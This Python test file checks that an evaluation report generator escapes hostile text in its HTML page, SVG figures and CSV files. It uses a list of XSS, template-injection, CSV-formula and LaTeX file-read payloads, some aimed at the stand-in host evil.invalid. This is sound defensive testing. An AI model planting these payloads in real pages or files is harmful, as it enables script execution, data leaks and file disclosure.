"""A page, figures and CSV files of which every free text is hostile."""

import csv
import http.server
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from educe.data.audit.finding import Finding
from educe.eval.details import Details, FormatExtremes, FormatScore, Selection
from educe.eval.measurement import Failure, Measurement
from educe.eval.report.page import write_report
from tests.eval.synthetic import FAILED, PROVENANCE, small_study

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
POLICY = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"

# Each says that it ran by setting the page's title or by asking the listener at URL.
SET = "document.title='ran'"
PAYLOADS = [
    f"<script>{SET}</script><script src='URL/script'></script>",
    f'</title></style></svg></pre></code><script>{SET}</script><img src=URL/image onerror="{SET}">',
    f'"><svg onload="{SET}"><image href=\'URL/svg\'/></svg>',
    f"' onmouseover='{SET}' autofocus onfocus='{SET}' x='",
    f"javascript:{SET}",
    f'<a href="javascript:{SET}" ping=URL/ping>x</a><link rel=stylesheet href=URL/style><base href=URL/>',
    f']]><!--><iframe src=URL/frame srcdoc="<script>parent.{SET}</script>"></iframe><object data=URL/object>',
    "<style>@import 'URL/import'; body{background:url(URL/background)}</style>",
    "<meta http-equiv=refresh content='0;url=URL/refresh'>{{ 7 * 191 }}{% raw %}${7*191}#{7*191}<%= 7*191 %>",
    r"$\frac{1}{0$ $\undefined{x}$ $$ \input{/etc/passwd} %s {0} {x!r}",
    '=HYPERLINK("URL/csv")\r\n=1+1',
    "\x00\x1b]0;ran\x07\x9b2J\u202etxt\u2066\u200b\ufeff\x85\u2028\ud800\uffff",
    f"<form action=URL/form><input autofocus onfocus={SET}></form><video src=URL/video><audio src=URL/audio>",
    f"+ADw-script+AD4-{SET}+ADw-/script+AD4-",
]


class Tags(HTMLParser):
    """Every tag of a page with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def hostile(url: str) -> tuple[list[Measurement], list[Failure], dict[str, list[Finding]]]:
    """The small study with a payload in every text: names differ, so that each payload is on the page."""
    texts = [each.replace("URL", url) for each in PAYLOADS]
    names = {name: texts[i] for i, name in enumerate(("big", "small", "capitals", "sentiment"))}
    made = []
    for number, each in enumerate(small_study()):
        text, other = texts[number % len(texts)], texts[(number + 5) % len(texts)]
        found = FormatScore(format=text, accuracy=0.5, asked=20)
        made.append(
            replace(
                each,
                study=texts[1],
                model=names[each.model],
                task=names[each.task],
                recipe=f"{each.method} {texts[{'zero_shot': 4, 'few_shot': 9, 'iid_sft': 11}[each.method]]}",
                metric=texts[1],
                interval=texts[6] if each.examples else texts[7],
                # The same on every task, so that there are means over tasks.
                settings={**each.settings, "note": texts[{"zero_shot": 0, "few_shot": 5, "iid_sft": 10}[each.method]]},
                details=Details(
                    selection=Selection(chosen={text: other}, dev_score=0.5, dev_examples=16, candidates=3),
                    format_extremes=FormatExtremes(
                        best=found, worst=replace(found, format=other), spread=0.0, formats_asked=2, pairs_asked=40
                    ),
                    first_prompt=f"{text}\n{other}",
                    notes={"note": text, other: text},
                ),
                provenance=replace(PROVENANCE, machine=text, device=other, model_revision=text, versions={text: other}),
            )
        )
    failures = [
        replace(FAILED, study="s", model=text, task=other, recipe=text, method=text, reason=f"{other}\n{text}")
        for text, other in zip(texts, reversed(texts), strict=True)
    ]
    audits = {
        task: [Finding(kind="near_duplicates", serious=True, sentence=text, numbers={}) for text in texts]
        for task in names.values()
    }
    return made, failures, audits


def written(folder: Path, url: str) -> Path:
    folder.mkdir(parents=True)
    measurements, failures, audits = hostile(url)
    text = "\n".join(each.replace("URL", url) for each in PAYLOADS)
    return write_report(measurements, failures, folder, study=text, study_text=text, audits=audits)


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return written(tmp_path_factory.mktemp("hostile") / "out", "http://evil.invalid")


def test_no_text_becomes_a_tag_or_an_attribute(page: Path) -> None:
    text = page.read_text("utf-8")
    tags = Tags(text).found
    policies = [
        each["content"] for tag, each in tags if each.get("http-equiv", "").lower() == "content-security-policy"
    ]
    assert policies == [POLICY] and ("meta", {"name": "referrer", "content": "no-referrer"}) in tags
    used = {tag for tag, _ in tags}
    assert not used & {"script", "img", "image", "iframe", "object", "embed", "base", "link", "form", "video", "audio"}
    for tag, attributes in tags:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert {"src", "srcdoc", "action", "ping", "data"}.isdisjoint(attributes), (tag, attributes)
        assert (attributes.get("href") or "#").startswith("#"), (tag, attributes)
        assert "evil.invalid" not in "".join(str(value) for name, value in attributes.items() if name != "aria-label")
    assert "1337" not in text, "a template in a text was run"
    assert "{{ 7 * 191 }}" in text and text.count("&lt;script&gt;") > 20, (
        "the payloads are not on the page: nothing was tested"
    )
    assert text.replace("\n", "").isprintable()


def test_figures_are_whole_and_without_active_parts(page: Path) -> None:
    figures = sorted((page.parent / "figures").glob("*.svg"))
    assert len(figures) > 6
    shown = ""
    for path in figures:
        for element in ElementTree.parse(path).iter():
            name = element.tag.rpartition("}")[2]
            assert name in {"svg", "g", "path", "text", "tspan", "use", "defs", "style", "clipPath", "rect", "metadata",
                            "RDF", "Work", "type", "title", "creator", "Agent"}, (path, name)  # fmt: skip
            assert not [key for key in element.attrib if key.startswith("on")]
            links = [value for key, value in element.attrib.items() if key.rpartition("}")[2] == "href"]
            assert all(link.startswith("#") for link in links)
            shown += element.text or ""
    assert "<script>" in shown and "$" in shown


def test_the_tables_have_one_line_a_row_and_no_formula(page: Path) -> None:
    for path in sorted(page.parent.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            text = file.read()
        rows = list(csv.reader(text.splitlines(), strict=True))
        assert len({len(row) for row in rows}) == 1 and len(rows) > 1, path
        assert text.replace("\n", "").isprintable()
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"\s*[=+@-]", cell) or re.fullmatch(r"[-+\d.e]+", cell), cell


class Listener(http.server.BaseHTTPRequestHandler):
    """Notes every request."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    asked: list[str] = []
    handler = type("Noting", (Listener,), {"asked": asked})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def opened(page: Path, log: Path) -> str:
    """The page's elements after Chromium has run it; what it asked the network for is in `log`."""
    command = [
        str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--disable-background-networking", "--no-first-run", f"--user-data-dir={log.parent / 'profile'}",
        f"--log-net-log={log}", "--virtual-time-budget=3000", "--dump-dom", page.as_uri(),
    ]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, errors="replace")
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def requests_in(log: Path) -> list[str]:
    """Every address on the net that the browser was asked for."""
    return [address for address in re.findall(r'"url":"((?:https?|wss?):[^"]+)"', log.read_text("utf-8"))]


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
def test_in_a_browser_no_script_runs_and_no_request_leaves(tmp_path: Path, listener: tuple[str, list[str]]) -> None:
    url, asked = listener
    page = written(tmp_path / "out", url)
    shown = opened(page, tmp_path / "net.json")
    title = re.search(r"<title>(.*?)</title>", shown, re.DOTALL)
    assert title is not None and "elicitation report" in title.group(1)
    assert POLICY in shown and asked == []
    assert [each for each in requests_in(tmp_path / "net.json") if url in each] == []
    assert "script" not in {tag for tag, _ in Tags(shown).found}


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
@pytest.mark.parametrize("policy", [True, False], ids=["policy", "without"])
def test_the_policy_holds_where_escaping_fails(policy: bool, tmp_path: Path, listener: tuple[str, list[str]]) -> None:
    """The payloads unescaped, with the policy and without it: without it they run, so the browser test can fail."""
    url, asked = listener
    body = "".join(each.replace("URL", url) for each in PAYLOADS if "refresh" not in each and each.isprintable())
    head = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{POLICY}">' if policy else ""
    page = tmp_path / "page.html"
    page.write_text(f"<!DOCTYPE html><html><head>{head}<title>as written</title></head><body>{body}</body></html>")
    shown = opened(page, tmp_path / "net.json")
    ran = "<title>as written</title>" not in shown
    assert (ran, bool(asked)) == ((False, False) if policy else (True, True)), asked
    assert bool([each for each in requests_in(tmp_path / "net.json") if url in each]) is not policy
